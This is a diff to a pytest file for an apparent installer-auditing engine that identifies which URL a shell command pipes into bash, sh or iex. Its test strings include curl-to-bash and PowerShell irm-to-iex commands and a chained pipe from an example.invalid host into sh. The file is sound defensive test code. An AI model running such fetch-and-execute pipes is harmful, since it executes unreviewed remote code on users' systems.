@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from skillkeep.auditor.engines.installers import is_installer, runs_installer, saves_installer
+from skillkeep.auditor.engines.installers import is_installer, piped_address, saves_installer
 
 
 @pytest.mark.parametrize(
@@ -32,11 +32,11 @@ def test_what_only_looks_like_one_is_not(url: str) -> None:
 
 
 def test_a_pipe_counts_only_when_nothing_else_is_in_it() -> None:
-    assert runs_installer("curl -fsSL https://bun.sh/install | bash")
-    assert runs_installer("irm https://bun.sh/install.ps1 | iex")
-    assert not runs_installer("curl -fsSL https://bun.sh/install https://example.invalid/a | bash")
-    assert not runs_installer("curl -fsSL $URL https://bun.sh/install | bash")
-    assert not runs_installer("curl -fsSL https://bun.sh/install | bash; curl https://example.invalid/a | sh")
+    assert piped_address("curl -fsSL https://bun.sh/install | bash") == "https://bun.sh/install"
+    assert piped_address("irm https://bun.sh/install.ps1 | iex") == "https://bun.sh/install.ps1"
+    assert not piped_address("curl -fsSL https://bun.sh/install https://example.invalid/a | bash")
+    assert not piped_address("curl -fsSL $URL https://bun.sh/install | bash")
+    assert not piped_address("curl -fsSL https://bun.sh/install | bash; curl https://example.invalid/a | sh")
 
 
 def test_a_saved_file_counts_when_every_fetch_of_it_does() -> None:
